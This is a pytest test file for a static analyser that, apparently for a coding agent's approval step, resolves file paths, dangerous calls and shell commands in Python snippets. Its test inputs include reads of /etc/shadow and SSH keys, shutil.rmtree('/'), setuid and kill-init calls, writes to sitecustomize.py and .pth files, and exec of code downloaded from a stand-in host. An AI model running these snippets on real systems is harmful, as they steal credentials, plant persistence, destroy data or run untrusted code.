"""Python code read with `ast`: folded paths, dangerous calls, commands, and what stays unknown."""

from __future__ import annotations

import pytest

from codingcode_jupyter.engine.approval.python_code import analyse_python


def reading(code):
    return analyse_python(code, home="/home/u", cwd="/p")


@pytest.mark.parametrize("code, path, access", [
    ("open('/etc/'+'shadow')", "/etc/shadow", "read"),
    ("import os; open(os.path.join('/etc', 'shadow'))", "/etc/shadow", "read"),
    ("from pathlib import Path; (Path('/etc') / 'shadow').read_text()", "/etc/shadow", "read"),
    ("from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').read_text()", "/home/u/.ssh/id_rsa", "read"),
    ("import os; open(os.path.expanduser('~/.bashrc'), 'a')", "/home/u/.bashrc", "write"),
    ("import os; open(os.environ['HOME'] + '/.bashrc', 'w')", "/home/u/.bashrc", "write"),
    ("d = '/etc'; open(f'{d}/shadow')", "/etc/shadow", "read"),
    ("open('/etc/%s' % 'shadow')", "/etc/shadow", "read"),
    ("open('/etc/{}'.format('shadow'))", "/etc/shadow", "read"),
    ("open(''.join(['/etc/', 'shadow']))", "/etc/shadow", "read"),
    ("import os; os.chdir('/etc'); open('shadow')", "/etc/shadow", "read"),
    ("open('README.md')", "/p/README.md", "read"),
])
def test_paths_are_folded(code, path, access):
    assert (path, access) in [(p.path, p.access) for p in reading(code).paths]


@pytest.mark.parametrize("code, kind", [
    ("import os; os.chmod('x', 0o4755)", "setuid-bits"),
    ("import os, stat; os.chmod('x', stat.S_ISGID | 0o755)", "setuid-bits"),
    ("import os, signal; os.kill(1, signal.SIGKILL)", "kill-init"),
    ("import os; os.setuid(0)", "setuid"),
    ("import shutil; shutil.rmtree('/')", "delete-tree"),
])
def test_dangerous_calls(code, kind):
    assert kind in [c.kind for c in reading(code).calls]


@pytest.mark.parametrize("code, command", [
    ("import os; os.system('s' + 'udo id')", "sudo id"),
    ("import subprocess; subprocess.run(['sudo', 'id'])", "sudo id"),
    ("import subprocess as sp; sp.check_output('sudo id', shell=True)", "sudo id"),
    ("import os; os.execvp('sudo', ['sudo', 'id'])", "sudo id"),
])
def test_commands_are_shell_lines(code, command):
    assert [run.text for run in reading(code).commands] == [command]


@pytest.mark.parametrize("code, cwd", [
    ("import os; os.system('ls')", "/p"),
    ("import os; os.chdir('/etc'); os.system('cat shadow')", "/etc"),
    ("import os\nos.chdir('sub')\nos.system('ls')", "/p/sub"),
    ("import subprocess; subprocess.run(['ls'], cwd='/etc')", "/etc"),
    ("import subprocess; subprocess.run('ls', shell=True, cwd='src')", "/p/src"),
    ("import os, subprocess; os.chdir('/tmp'); subprocess.Popen(['ls'], cwd='x')", "/tmp/x"),
    ("import subprocess; subprocess.run(['ls'], cwd=None)", "/p"),
    ("import os; os.chdir(os.path.expanduser('~')); os.system('ls')", "/home/u"),
    ("import asyncio; asyncio.create_subprocess_exec('ls', cwd='/etc')", "/etc"),
    ("import os; os.chdir('/etc')\nimport subprocess; subprocess.run(['ls'])", "/etc"),
])
def test_commands_run_where_the_code_is(code, cwd):
    found = reading(code)
    assert [run.cwd for run in found.commands] == [cwd] and not found.unresolved, found


@pytest.mark.parametrize("code", [
    "import os\nif x:\n    os.chdir('/etc')\nos.system('ls')",
    "import os\ndef go():\n    os.chdir('/etc')\ngo()\nos.system('ls')",
    "import os\nfor d in ['a']:\n    os.chdir('/etc')",
    "import contextlib, os\nwith contextlib.chdir('/etc'):\n    os.system('ls')",
    "import os\nflag and os.chdir('/etc')",
    "import os, subprocess\nsubprocess.run(['ls'], cwd=os.environ['D'])",
    "import subprocess\nsubprocess.run(['ls', '-c', 'id'], executable='/bin/sh')",
    "import subprocess\nsubprocess.run(['ls'], **{'cwd': '/etc'})",
    "import subprocess\nkw = {'shell': True}\nsubprocess.run('ls', **kw)",
    "import subprocess\nsubprocess.run(*['ls'])",
])
def test_a_working_directory_the_judge_cannot_know_is_unresolved(code):
    assert reading(code).unresolved, code


@pytest.mark.parametrize("rebinding", [
    "*c, = ['sudo', 'id']", "[*c] = ['sudo', 'id']", "a, (c, b) = 1, ('sudo id', 2)", "del c",
    "try:\n    pass\nexcept Exception as c:\n    pass", "match 'sudo id':\n    case c: pass",
    "match ['sudo id']:\n    case [*c]: pass", "match {'k': 1}:\n    case {**c}: pass",
    "match 'sudo id':\n    case str() as c: pass", "class c: pass", "def c(): pass", "from os import sep as c",
    "import os as c",
])
def test_a_second_binding_of_any_kind_unfolds_a_name(rebinding):
    # Positive control: bound once, the command is followed.
    assert [run.text for run in reading("import os\nc = 'ls src'\nos.system(c)").commands] == ["ls src"]
    found = reading(f"import os\nc = 'ls src'\n{rebinding}\nos.system(c)")
    assert not found.commands and found.unresolved, found


@pytest.mark.parametrize("change", ["c[0] = 'sudo'", "c[:] = ['sudo', 'id']", "del c[0]", "c.insert(0, 'sudo')",
                                    "c.reverse()", "d = c", "x = [c]", "import random\nrandom.shuffle(c)", "f(*c)"])
def test_a_list_that_may_change_in_place_is_not_folded(change):
    unchanged = "import subprocess\nc = ['id', 'src']\nprint(len(c), f'{c}')\nfor a in c:\n    pass\n"
    assert [run.text for run in reading(unchanged + "subprocess.run(c)").commands] == ["id src"]
    found = reading(f"import subprocess\nc = ['id', 'src']\n{change}\nsubprocess.run(c)")
    assert not found.commands and found.unresolved, found


@pytest.mark.parametrize("code", [
    "exec('import os')", "eval(input())", "import importlib; importlib.import_module('o' + 's')",
    "import os; open(os.environ.get('P'))", "import ctypes; ctypes.CDLL(None)", "import os; os.system(input())",
    "import os; os.chmod('x', mode)", "def (:",
])
def test_what_is_computed_at_run_time_is_unresolved(code):
    assert reading(code).unresolved


@pytest.mark.parametrize("code", ["print(1 + 1)", "import json; print(json.dumps({'a': 1}))", "x = [i for i in range(3)]"])
def test_plain_code_is_plain(code):
    result = reading(code)
    assert not result.unresolved and not result.calls and not result.commands


def test_downloads_are_named():
    result = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', 'i.sh')")
    assert result.downloads == ["/p/i.sh"]
    assert reading("import urllib.request as u; exec(u.urlopen('http://x.test').read())").runs_download
    # Where it saves may be in a `**`: not known.
    hidden = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', **{'filename': 'i.sh'})")
    assert hidden.unresolved and not hidden.downloads


@pytest.mark.parametrize("code, path, access", [
    ("df.to_csv('sitecustomize.py')", "/p/sitecustomize.py", "write"),
    ("import pandas as pd; pd.DataFrame.to_csv(df, 'x.pth')", "/p/x.pth", "write"),
    ("import pandas as pd; pd.to_pickle(df, path='x.pth')", "/p/x.pth", "write"),
    ("import numpy as np; np.memmap('m.bin', dtype='u1', mode='r')", "/p/m.bin", "read"),
    ("import numpy as np; np.memmap('m.bin')", "/p/m.bin", "write"),
    ("import gzip; gzip.open('a.gz')", "/p/a.gz", "read"),
    ("import shutil; shutil.make_archive('out', 'gztar', 'src')", "/p/out.tar.gz", "write"),
    ("import shutil; shutil.make_archive('out', 'zip', 'src')", "/p/src", "tree"),
    ("import shutil; shutil.make_archive('out', 'zip')", "/p", "tree"),
    ("import shutil; shutil.make_archive('out', 'zip', root_dir='/srv', base_dir='data')", "/srv/data", "tree"),
    ("import tempfile; tempfile.mkstemp('.pth', 'x', 'lib')", "/p/lib/xXXXXXXXX.pth", "write"),
    ("import tempfile; tempfile.mkstemp(suffix=None, prefix=None, dir='lib')", "/p/lib/tmpXXXXXXXX", "write"),
    ("import logging; logging.basicConfig(filename='a.pth')", "/p/a.pth", "write"),
    ("import matplotlib.image as mpimg; mpimg.imsave(fname='a.pth', arr=a)", "/p/a.pth", "write"),
    ("import pickle; pickle.dump(obj, open('a.pth', 'wb'))", "/p/a.pth", "write"),
    ("from pathlib import Path; Path('a').rename('b.pth')", "/p/b.pth", "write"),
    ("from pathlib import Path; Path('a.txt').open('a')", "/p/a.txt", "write"),
    ("from pathlib import Path; (Path.cwd() / 'a.pth').write_text('x')", "/p/a.pth", "write"),
    ("import os\nfrom pathlib import Path\nos.chdir('/etc')\nPath.cwd().joinpath('shadow').read_text()", "/etc/shadow", "read"),
    ("open('a.txt', 'w', **{'encoding': 'utf-8'})", "/p/a.txt", "write"),
    ("opts = {'index': False}\ndf.to_csv('x.pth', **opts)", "/p/x.pth", "write"),
])
def test_the_file_table_finds_what_each_call_reaches(code, path, access):
    assert (path, access) in [(p.path, p.access) for p in reading(code).paths], reading(code).paths


@pytest.mark.parametrize("code", [
    "import io; buf = io.StringIO(); df.to_csv(buf)",
    "with open('a.csv', 'w') as f:\n    df.to_csv(f)",
    "import sys; df.to_csv(sys.stdout)",
    "import matplotlib.pyplot as plt\nfor c in 'ab':\n    plt.savefig(f'{c}.png')",
    "df.to_parquet(name + '.parquet')",
    "import pandas as pd; pd.read_csv(path)",
    "import tempfile; tempfile.NamedTemporaryFile(suffix='.pth')",
    "import tempfile; tempfile.NamedTemporaryFile(suffix=None, dir='build')",
    "df.to_csv()", "'a b'.replace('a', 'c')",
])
def test_a_file_object_or_a_data_name_is_no_unknown_path(code):
    assert not reading(code).unresolved, reading(code).unresolved


@pytest.mark.parametrize("code", [
    "df.to_csv(name)", "import matplotlib.pyplot as plt\nplt.savefig(f'{c}.py')", "arr.tofile(x + '.pth')",
    "import shutil; shutil.make_archive('o', 'zip', root)", "import tempfile; tempfile.mkstemp(dir=d)",
    "f = open('a')\nf = name\ndf.to_csv(f)",
    "open(**{'file': 'a.pth', 'mode': 'w'})", "open('a.pth', **{'mode': 'w'})", "df.to_csv(*['a.pth'])",
    "from pathlib import Path; Path('a.pth').open(**opts)",
])
def test_a_write_to_a_computed_name_is_unresolved(code):
    assert reading(code).unresolved, code


def test_a_url_read_by_a_data_library_is_the_network_not_a_path():
    found = reading("import pandas as pd; pd.read_csv('https://x.test/a.csv')")
    assert found.network and not found.paths
